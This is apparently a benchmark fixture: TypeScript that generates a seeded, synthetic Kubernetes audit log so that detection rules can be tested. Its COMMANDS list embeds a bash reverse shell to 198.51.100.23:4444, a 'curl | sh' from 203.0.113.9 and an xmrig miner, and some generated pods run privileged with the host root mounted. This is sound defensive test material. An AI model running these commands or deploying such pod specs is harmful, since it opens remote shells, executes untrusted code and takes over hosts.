/**
 * A seeded generator of a realistic Kubernetes audit log (JSON lines, `audit.k8s.io/v1`), as
 * the API server's log backend writes it. The mix follows what a real cluster logs: node and
 * leader-election lease updates dominate, then controller get/list/watch (with Go's `\u0026`
 * escapes in query strings), node status patches, core Events, token and access reviews,
 * service-account token requests; a small fraction are CronJob/Job/Pod creates at
 * RequestResponse level, a few of them malicious (reverse shell, miner, privileged hostPath).
 * Same seed, same bytes.
 */
import { once } from 'node:events';
import { createWriteStream } from 'node:fs';
import { mulberry32 } from '../test/seeded-random.js';

/** The benches' seeded PRNG (mulberry32). */
export const rng = mulberry32;

export interface GeneratedLog {
  readonly bytes: number;
  readonly lines: number;
  /** Lines that are CronJob/Job/Pod creates by people (the ones rules care about). */
  readonly jobWrites: number;
}

const NODES = Array.from(
  { length: 40 },
  (_, i) => `ip-10-0-${i >> 3}-${(i * 37) % 250}.ec2.internal`,
);
const NAMESPACES = [
  'payments',
  'checkout',
  'search',
  'data',
  'ml',
  'web',
  'kube-system',
  'monitoring',
];
const CONTROLLERS = [
  'system:kube-controller-manager',
  'system:serviceaccount:kube-system:deployment-controller',
  'system:serviceaccount:kube-system:replicaset-controller',
  'system:serviceaccount:kube-system:endpointslice-controller',
  'system:kube-scheduler',
];
/**
 * Reads by controllers, operators and kubelets. Informers hold one long watch per resource
 * type, so most logged reads are get/list of pods, configmaps, secrets and endpoints; reads
 * of workload controllers (deployments, jobs, cronjobs) are a small share.
 */
const WATCHED = [
  ...Array.from({ length: 6 }, () => ['', 'pods'] as const),
  ...Array.from({ length: 5 }, () => ['', 'configmaps'] as const),
  ...Array.from({ length: 5 }, () => ['', 'secrets'] as const),
  ...Array.from({ length: 3 }, () => ['', 'services'] as const),
  ...Array.from({ length: 3 }, () => ['', 'endpoints'] as const),
  ...Array.from({ length: 3 }, () => ['discovery.k8s.io', 'endpointslices'] as const),
  ...Array.from({ length: 2 }, () => ['', 'nodes'] as const),
  ['apps', 'deployments'],
  ['apps', 'replicasets'],
  ['batch', 'jobs'],
  ['batch', 'cronjobs'],
] as const;

export async function generateAuditLog(
  path: string,
  targetBytes: number,
  seed = 1053007,
): Promise<GeneratedLog> {
  const random = rng(seed);
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)] as T;
  const hex = (n: number) => {
    let s = '';
    for (let i = 0; i < n; i++) s += '0123456789abcdef'[Math.floor(random() * 16)];
    return s;
  };
  const uuid = () => `${hex(8)}-${hex(4)}-4${hex(3)}-a${hex(3)}-${hex(12)}`;
  let clock = Date.UTC(2024, 4, 1, 0, 0, 0);
  const stamps = () => {
    clock += Math.floor(random() * 3);
    const received = new Date(clock).toISOString().replace('Z', '000Z');
    const done = new Date(clock + Math.floor(random() * 20)).toISOString().replace('Z', '000Z');
    return `"requestReceivedTimestamp":"${received}","stageTimestamp":"${done}"`;
  };
  const head = (level: string) =>
    `{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"${level}","auditID":"${uuid()}","stage":"ResponseComplete",`;
  const allow = (reason: string) =>
    `"annotations":{"authorization.k8s.io/decision":"allow","authorization.k8s.io/reason":"${reason}"}}`;
  const rbac = (role: string) =>
    allow(
      `RBAC: allowed by ClusterRoleBinding \\"${role}\\" of ClusterRole \\"${role}\\" to User \\"${role}\\"`,
    );

  const lease = () => {
    const node = pick(NODES);
    const rv = Math.floor(random() * 1e8);
    return `${head('Metadata')}"requestURI":"/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/${node}?timeout=10s","verb":"update","user":{"username":"system:node:${node}","groups":["system:nodes","system:authenticated"]},"sourceIPs":["10.0.${Math.floor(random() * 8)}.${Math.floor(random() * 250)}"],"userAgent":"kubelet/v1.29.3 (linux/amd64) kubernetes/6813625","objectRef":{"resource":"leases","namespace":"kube-node-lease","name":"${node}","uid":"${uuid()}","apiGroup":"coordination.k8s.io","apiVersion":"v1","resourceVersion":"${rv}"},"responseStatus":{"metadata":{},"code":200},${stamps()},${allow('')}`;
  };
  const leaderLease = () => {
    const name = pick(['kube-controller-manager', 'kube-scheduler', 'cloud-controller-manager']);
    return `${head('Metadata')}"requestURI":"/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/${name}?timeout=5s","verb":"update","user":{"username":"system:${name}","groups":["system:authenticated"]},"sourceIPs":["10.0.0.${Math.floor(random() * 3) + 10}"],"userAgent":"${name}/v1.29.3 (linux/amd64) kubernetes/6813625/leader-election","objectRef":{"resource":"leases","namespace":"kube-system","name":"${name}","uid":"${uuid()}","apiGroup":"coordination.k8s.io","apiVersion":"v1","resourceVersion":"${Math.floor(random() * 1e8)}"},"responseStatus":{"metadata":{},"code":200},${stamps()},${rbac(`system:${name}`)}`;
  };
  const controllerRead = () => {
    const [group, resource] = pick(WATCHED);
    const user = pick(CONTROLLERS);
    const verb = pick(['get', 'list', 'watch', 'watch', 'list']);
    const base = group === '' ? '/api/v1' : `/apis/${group}/v1`;
    const ns = resource === 'nodes' ? '' : pick(NAMESPACES);
    const path = ns === '' ? `${base}/${resource}` : `${base}/namespaces/${ns}/${resource}`;
    const uri =
      verb === 'get'
        ? `${path}/${resource.slice(0, 4)}-${hex(5)}`
        : verb === 'watch'
          ? `${path}?allowWatchBookmarks=true\\u0026resourceVersion=${Math.floor(random() * 1e8)}\\u0026timeout=7m${Math.floor(random() * 60)}s\\u0026timeoutSeconds=${400 + Math.floor(random() * 200)}\\u0026watch=true`
          : `${path}?limit=500\\u0026resourceVersion=0`;
    const nsField = ns === '' ? '' : `"namespace":"${ns}",`;
    return `${head('Metadata')}"requestURI":"${uri}","verb":"${verb}","user":{"username":"${user}","groups":["system:authenticated"]},"sourceIPs":["10.0.0.${Math.floor(random() * 3) + 10}"],"userAgent":"kube-controller-manager/v1.29.3 (linux/amd64) kubernetes/6813625/shared-informers","objectRef":{"resource":"${resource}",${nsField}"apiGroup":"${group}","apiVersion":"v1"},"responseStatus":{"metadata":{},"code":200},${stamps()},${rbac(user)}`;
  };
  const nodeStatus = () => {
    const node = pick(NODES);
    return `${head('Request')}"requestURI":"/api/v1/nodes/${node}/status?timeout=10s","verb":"patch","user":{"username":"system:node:${node}","groups":["system:nodes","system:authenticated"]},"sourceIPs":["10.0.1.${Math.floor(random() * 250)}"],"userAgent":"kubelet/v1.29.3 (linux/amd64) kubernetes/6813625","objectRef":{"resource":"nodes","name":"${node}","apiVersion":"v1","subresource":"status"},"responseStatus":{"metadata":{},"code":200},"requestObject":{"status":{"$setElementOrder/conditions":[{"type":"MemoryPressure"},{"type":"DiskPressure"},{"type":"PIDPressure"},{"type":"Ready"}],"conditions":[{"lastHeartbeatTime":"2024-05-01T00:00:${String(Math.floor(random() * 60)).padStart(2, '0')}Z","type":"MemoryPressure"},{"lastHeartbeatTime":"2024-05-01T00:00:00Z","type":"DiskPressure"},{"lastHeartbeatTime":"2024-05-01T00:00:00Z","type":"PIDPressure"},{"lastHeartbeatTime":"2024-05-01T00:00:00Z","type":"Ready"}]}},${stamps()},${allow('')}`;
  };
  const coreEvent = () => {
    const ns = pick(NAMESPACES);
    return `${head('Metadata')}"requestURI":"/api/v1/namespaces/${ns}/events","verb":"create","user":{"username":"system:node:${pick(NODES)}","groups":["system:nodes","system:authenticated"]},"sourceIPs":["10.0.2.${Math.floor(random() * 250)}"],"userAgent":"kubelet/v1.29.3 (linux/amd64) kubernetes/6813625","objectRef":{"resource":"events","namespace":"${ns}","name":"web-${hex(10)}.${hex(16)}","apiVersion":"v1"},"responseStatus":{"metadata":{},"code":201},${stamps()},${allow('')}`;
  };
  const review = () => {
    const kind = pick(['tokenreviews', 'subjectaccessreviews']);
    const group = kind === 'tokenreviews' ? 'authentication.k8s.io' : 'authorization.k8s.io';
    return `${head('Metadata')}"requestURI":"/apis/${group}/v1/${kind}","verb":"create","user":{"username":"system:serviceaccount:monitoring:prometheus-operator","uid":"${uuid()}","groups":["system:serviceaccounts","system:serviceaccounts:monitoring","system:authenticated"]},"sourceIPs":["10.0.3.${Math.floor(random() * 250)}"],"userAgent":"operator/v0.72.0 (linux/amd64)","objectRef":{"resource":"${kind}","apiGroup":"${group}","apiVersion":"v1"},"responseStatus":{"metadata":{},"code":201},${stamps()},${rbac('system:auth-delegator')}`;
  };
  const saToken = () => {
    const ns = pick(NAMESPACES);
    return `${head('Metadata')}"requestURI":"/api/v1/namespaces/${ns}/serviceaccounts/default/token","verb":"create","user":{"username":"system:node:${pick(NODES)}","groups":["system:nodes","system:authenticated"]},"sourceIPs":["10.0.1.${Math.floor(random() * 250)}"],"userAgent":"kubelet/v1.29.3 (linux/amd64) kubernetes/6813625","objectRef":{"resource":"serviceaccounts","namespace":"${ns}","name":"default","apiVersion":"v1","subresource":"token"},"responseStatus":{"metadata":{},"code":201},${stamps()},${allow('')}`;
  };
  const COMMANDS = [
    '["/bin/sh","-c","pg_dump -h db payments > /backup/dump.sql"]',
    '["/bin/sh","-c","python /app/report.py --daily"]',
    '["/bin/sh","-c","bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"]',
    '["/bin/sh","-c","curl -s http://203.0.113.9/x.sh | sh"]',
    '["/opt/xmrig","-o","stratum+tcp://pool.example:3333"]',
  ];
  const jobWrite = () => {
    const ns = pick(NAMESPACES);
    const name = `${pick(['backup', 'report', 'sync', 'cleanup'])}-${hex(4)}`;
    const kind = pick(['cronjobs', 'jobs', 'pods']);
    const user = pick([
      'alice@example.com',
      'bob@example.com',
      'system:serviceaccount:ci:deployer',
    ]);
    const command = random() < 0.8 ? COMMANDS[Math.floor(random() * 2)] : pick(COMMANDS);
    const privileged = random() < 0.1;
    const container = `{"name":"${name}","image":"${pick(['busybox:latest', `registry.example.com/tools/backup@sha256:${hex(64)}`, 'postgres:16'])}","command":${command},"resources":{},"terminationMessagePath":"/dev/termination-log","terminationMessagePolicy":"File","imagePullPolicy":"IfNotPresent"${privileged ? ',"securityContext":{"privileged":true}' : ''}}`;
    const volumes = privileged
      ? ',"volumes":[{"name":"host","hostPath":{"path":"/","type":""}}]'
      : '';
    const podSpec = `{"containers":[${container}],"restartPolicy":"OnFailure","terminationGracePeriodSeconds":30,"dnsPolicy":"ClusterFirst","securityContext":{},"schedulerName":"default-scheduler"${volumes}}`;
    const uid = uuid();
    const meta = `"metadata":{"name":"${name}","namespace":"${ns}","uid":"${uid}","creationTimestamp":"2024-05-01T00:00:00Z","annotations":{"kubectl.kubernetes.io/last-applied-configuration":"{\\"apiVersion\\":\\"batch/v1\\",\\"kind\\":\\"CronJob\\",\\"metadata\\":{\\"name\\":\\"${name}\\"}}\\n"}}`;
    const [group, version, typeKind] =
      kind === 'pods' ? ['', 'v1', 'Pod'] : ['batch', 'v1', kind === 'jobs' ? 'Job' : 'CronJob'];
    const spec =
      kind === 'pods'
        ? podSpec
        : kind === 'jobs'
          ? `{"backoffLimit":6,"template":{"metadata":{},"spec":${podSpec}}}`
          : `{"schedule":"${pick(['0 2 * * *', '*/1 * * * *', '30 * * * *'])}","concurrencyPolicy":"Allow","suspend":false,"jobTemplate":{"metadata":{},"spec":{"template":{"metadata":{},"spec":${podSpec}}}},"successfulJobsHistoryLimit":${pick([0, 3])},"failedJobsHistoryLimit":1}`;
    const body = `{"kind":"${typeKind}","apiVersion":"${group === '' ? 'v1' : `${group}/${version}`}",${meta},"spec":${spec}}`;
    const base = group === '' ? '/api/v1' : `/apis/${group}/${version}`;
    return `${head('RequestResponse')}"requestURI":"${base}/namespaces/${ns}/${kind}?fieldManager=kubectl-client-side-apply\\u0026fieldValidation=Strict","verb":"create","user":{"username":"${user}","groups":["system:authenticated"]},"sourceIPs":["203.0.113.${Math.floor(random() * 250)}"],"userAgent":"kubectl/v1.29.3 (linux/amd64) kubernetes/6813625","objectRef":{"resource":"${kind}","namespace":"${ns}","name":"${name}","apiGroup":"${group}","apiVersion":"${version}"},"responseStatus":{"metadata":{},"code":201},"requestObject":${body},"responseObject":${body},${stamps()},${rbac('cluster-admin')}`;
  };

  const out = createWriteStream(path, { highWaterMark: 4 << 20 });
  let bytes = 0;
  let lines = 0;
  let jobWrites = 0;
  let batch: string[] = [];
  let batchBytes = 0;
  while (bytes < targetBytes) {
    const r = random();
    let line: string;
    if (r < 0.3) line = lease();
    else if (r < 0.38) line = leaderLease();
    else if (r < 0.66) line = controllerRead();
    else if (r < 0.78) line = nodeStatus();
    else if (r < 0.88) line = coreEvent();
    else if (r < 0.96) line = review();
    else if (r < 0.995) line = saToken();
    else {
      line = jobWrite();
      jobWrites += 1;
    }
    batch.push(line);
    batchBytes += line.length + 1;
    lines += 1;
    bytes += line.length + 1; // the generator writes ASCII only
    if (batchBytes >= 1 << 20) {
      if (!out.write(`${batch.join('\n')}\n`)) await once(out, 'drain');
      batch = [];
      batchBytes = 0;
    }
  }
  if (batch.length > 0) out.write(`${batch.join('\n')}\n`);
  out.end();
  await once(out, 'finish');
  return { bytes, lines, jobWrites };
}
